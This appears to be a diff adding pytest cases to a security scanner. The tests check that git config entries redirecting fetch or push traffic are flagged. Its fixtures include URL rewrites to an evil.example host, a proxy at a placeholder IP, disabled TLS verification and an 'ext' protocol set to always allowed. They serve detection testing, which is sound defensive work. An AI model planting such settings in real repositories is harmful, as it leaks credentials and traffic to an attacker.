@@ -1335,3 +1335,41 @@ def test_host_commands_judged_by_their_script(tmp_path: Path, files: dict[str, s
     script downloads and runs code or sends credentials (high before, whatever the script held)."""
     _write(tmp_path, files)
     assert {f.severity for f in scan_path(tmp_path) if f.rule == rule} == {"critical"}
+
+
+GIT_HEAD = {".git/HEAD": "ref: refs/heads/main\n"}
+GIT_NORMAL = (
+    "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
+    '[remote "origin"]\n\turl = https://github.com/acme/app.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n'
+    '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n'
+)
+GIT_NETWORK = {
+    "insteadof": ('[url "https://git.evil.example/"]\n\tinsteadOf = https://github.com/\n', "high"),
+    "pushinsteadof": ('[url "git@evil.example:"]\n\tpushInsteadOf = git@github.com:\n', "high"),
+    "proxy": ("[http]\n\tproxy = http://203.0.113.9:3128\n", "high"),
+    "host-proxy": ('[http "https://github.com/"]\n\tproxy = socks5://203.0.113.9:1080\n', "high"),
+    "sslverify-off": ("[http]\n\tsslVerify = false\n", "high"),
+    "host-sslverify-off": ('[http "https://github.com/"]\n\tsslverify = no\n', "high"),
+    "ca-file": ("[http]\n\tsslCAInfo = .certs/ca.pem\n", "medium"),
+    "ext-allowed": ('[protocol "ext"]\n\tallow = always\n', "high"),
+    "all-allowed": ("[protocol]\n\tallow = always\n", "high"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(GIT_NETWORK))
+def test_git_config_that_routes_traffic_elsewhere_is_reported(tmp_path: Path, case: str) -> None:
+    """A checkout handed over with its `.git` whose config sends the next fetch or push (and its credentials)
+    through another host, or stops TLS checks (OWS-GIT-005)."""
+    text, least = GIT_NETWORK[case]
+    _write(tmp_path, {**GIT_HEAD, ".git/config": GIT_NORMAL + text})
+    hits = [f for f in scan_path(tmp_path) if f.rule == "OWS-GIT-005"]
+    assert hits and RANK[hits[0].severity] == RANK[least], [(f.rule, f.severity) for f in hits]
+
+
+def test_git_config_keeping_the_defaults_is_not_reported(tmp_path: Path) -> None:
+    benign = GIT_NORMAL + (
+        '[http "https://github.com/"]\n\tsslVerify = true\n[protocol "ext"]\n\tallow = never\n'
+        '[protocol "file"]\n\tallow = user\n[http]\n\tpostBuffer = 524288000\n'
+    )
+    _write(tmp_path, {**GIT_HEAD, ".git/config": benign})
+    assert not [(f.rule, f.severity) for f in scan_path(tmp_path) if RANK[f.severity] >= RANK["medium"]]
